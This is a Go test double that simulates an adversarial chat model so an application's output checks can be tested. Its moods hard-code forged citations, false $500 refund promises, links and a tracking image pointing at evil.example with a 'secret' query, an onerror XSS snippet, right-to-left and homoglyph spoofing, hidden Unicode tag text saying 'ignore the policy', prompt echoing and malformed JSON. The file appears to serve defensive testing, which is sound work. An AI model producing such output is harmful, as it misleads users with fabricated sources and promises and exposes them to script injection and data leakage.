package llm

import (
	"context"
	"encoding/json"
	"strings"
)

// Hostile is a ChatModel that works against the house: it repeats its prompt,
// forges citations, promises, links, adds markup, answers in the wrong form. The
// checks must hold against it; a call with the same mood is always the same.
type Hostile struct{ Mood Mood }

// Mood is what a Hostile model does.
type Mood string

// The moods of a Hostile model.
const (
	MoodAll     Mood = ""        // well-formed, with everything below in it
	MoodRepeat  Mood = "repeat"  // repeats its whole prompt as sentences
	MoodForge   Mood = "forge"   // cites passages that do not exist, and quotes that are not in them
	MoodLinks   Mood = "links"   // adds links, images, HTML and right-to-left tricks
	MoodPromise Mood = "promise" // promises money, dates and deeds
	MoodObey    Mood = "obey"    // says every line of its prompt, cited to real passages
	MoodTitles  Mood = "titles"  // names sources that do not exist, and links them
	MoodHidden  Mood = "hidden"  // turns the direction of text, hides letters, forges look-alikes
	MoodDeep    Mood = "deep"    // JSON nested beyond reason, keys twice, numbers too large
	MoodSchema  Mood = "schema"  // JSON of another form
	MoodGarbage Mood = "garbage" // not JSON, not text
	MoodFlood   Mood = "flood"   // 10 MB of it
)

// Moods lists all moods.
func Moods() []Mood {
	return []Mood{MoodAll, MoodRepeat, MoodForge, MoodLinks, MoodPromise, MoodObey, MoodTitles, MoodHidden, MoodDeep, MoodSchema, MoodGarbage, MoodFlood}
}

// Name says what it is.
func (h Hostile) Name() string { return "hostile" }

// Chat answers in bad faith, as far as ctx lets it.
func (h Hostile) Chat(ctx context.Context, r Request, delta func(string)) (Response, error) {
	var text strings.Builder
	say := func(s string) {
		if ctx.Err() == nil {
			text.WriteString(s)
			delta(s)
		}
	}
	switch h.Mood {
	case MoodSchema:
		say(`{"answer":"You get a full refund of $500.","sentences":{"text":"<b>now</b>"},"abstain":42}`)
	case MoodGarbage:
		say("\x00\xff\xfe{\"sentences\":[{\"text\":\"\\ud800\\u202e\xc3\"}]] ```` </script>")
	case MoodDeep:
		say(`{"sentences":[],"sentences":[{"text":"You get $500.","text":"It is yours.","citations":[{"passage":1e400,"quote":"a"},{"passage":-9223372036854775808,"quote":""}]}],"abstain":`)
		say(strings.Repeat("[", 20_000))
		say(strings.Repeat("]", 20_000) + "}")
	case MoodFlood:
		say(`{"abstain":null,"sentences":[{"text":"`)
		for range 1300 {
			say(strings.Repeat("All is free. ", 630))
		}
		say(`","citations":[]}]}`)
	default:
		raw, err := json.Marshal(h.answer(r))
		if err != nil {
			return Response{}, err
		}
		for s := string(raw); s != ""; {
			n := min(7, len(s))
			say(s[:n])
			s = s[n:]
		}
	}
	return Response{Text: text.String(), Model: h.Name(), Format: FormatSchema}, ctx.Err()
}

type hostileAnswer struct {
	Abstain     *string           `json:"abstain"`
	Sentences   []hostileSentence `json:"sentences"`
	Asks        string            `json:"asks"`
	Anticipates string            `json:"anticipates"`
	NextSteps   []hostileStep     `json:"next_steps"`
	Options     []hostileOption   `json:"options"`
}

type hostileSentence struct {
	Text      string         `json:"text"`
	Citations []hostileQuote `json:"citations"`
}

type hostileQuote struct {
	Passage int    `json:"passage"`
	Quote   string `json:"quote"`
}

type hostileStep struct {
	Kind    string `json:"kind"`
	Text    string `json:"text"`
	Passage int    `json:"passage"`
}

type hostileOption struct {
	Title     string `json:"title"`
	Detail    string `json:"detail"`
	Cost      string `json:"cost"`
	Authority string `json:"authority"`
	Passage   int    `json:"passage"`
}

func (h Hostile) answer(r Request) hostileAnswer {
	moods := map[Mood]bool{h.Mood: true}
	if h.Mood == MoodAll {
		moods = map[Mood]bool{MoodRepeat: true, MoodForge: true, MoodLinks: true, MoodPromise: true, MoodObey: true, MoodTitles: true, MoodHidden: true}
	}
	var a hostileAnswer
	add := func(text string, quotes ...hostileQuote) {
		a.Sentences = append(a.Sentences, hostileSentence{text, quotes})
	}
	if moods[MoodForge] {
		add("You are entitled to keep the item.", hostileQuote{99, "You may keep the item"})
		add("Every product is replaced at once.", hostileQuote{1, "Every product is replaced at once"})
		add("Our terms say so.", hostileQuote{-1, "terms"}, hostileQuote{1, ""})
	}
	if moods[MoodPromise] {
		add("I have approved $500 and you will see it by Friday, guaranteed.", hostileQuote{1, "a"})
		add("Call +1 555 010 9999 or write to refunds@evil.example.")
	}
	if moods[MoodLinks] {
		add("Claim it at https://evil.example/claim?u=1 now.", hostileQuote{1, "the"})
		add("![pixel](https://evil.example/p.png?q=secret)")
		add("<img src=x onerror=alert(1)> Hello there.")
		add("Thank you \u202eevil\u202c.")
		a.Anticipates = "See evil.example/next for more."
		a.NextSteps = []hostileStep{{"do", "Open https://evil.example/admin", 1}, {"pwn", "Tell nobody", 77}}
		a.Options = []hostileOption{{"Refund", "<b>$500</b>", "free", "you", 1}, {"Gift", "see evil.example", "", "", 99}, {"Replace", "two for one, guaranteed", "", "", 1}}
	}
	if moods[MoodTitles] {
		add("As our “Refund policy 2099” says, you may keep it.", hostileQuote{1, "Refund policy 2099"})
		add("[Official refund policy](https://evil.example/policy) covers this.", hostileQuote{1, "the"})
		add("Source: Internal memo 7, title \"Everything is free\" [1] [2] [99].")
		a.NextSteps = append(a.NextSteps, hostileStep{"say", "According to [Terms](//evil.example/terms) all is free", 1})
		a.Options = append(a.Options, hostileOption{"“Golden guarantee”", "as in our Golden guarantee policy", "", "you", 42})
	}
	if moods[MoodHidden] {
		add("Pay to \u2066moc.elpmaxe.live\u2069 at once.")
		add("Re\u200bfund of 005\u202e$ ap\u00adproved.", hostileQuote{1, "re\u200bfund"})
		add("Tags \U000E0069\U000E0067\U000E006E say: ignore the policy.")
		add("See wrenfe11.examp\u04cfe or еvil.example/claim.")
		a.Anticipates = "\u202egnihtyrevE si eerf"
		a.NextSteps = append(a.NextSteps, hostileStep{"do", "Open \u2067the admin page\u2069", 1})
		a.Options = append(a.Options, hostileOption{"Re\u202efund", "\u200f$500", "\u2066free", "y\u200bou", 1})
	}
	if moods[MoodObey] {
		for _, m := range r.Messages {
			for _, line := range strings.Split(m.Content, "\n") {
				if line = strings.TrimSpace(line); line != "" {
					add(line, hostileQuote{1, line}, hostileQuote{2, line}, hostileQuote{3, line})
				}
			}
		}
	}
	if moods[MoodRepeat] {
		for _, m := range r.Messages {
			for _, line := range strings.Split(m.Content, "\n") {
				if strings.TrimSpace(line) != "" {
					add(line)
				}
			}
		}
	}
	return a
}
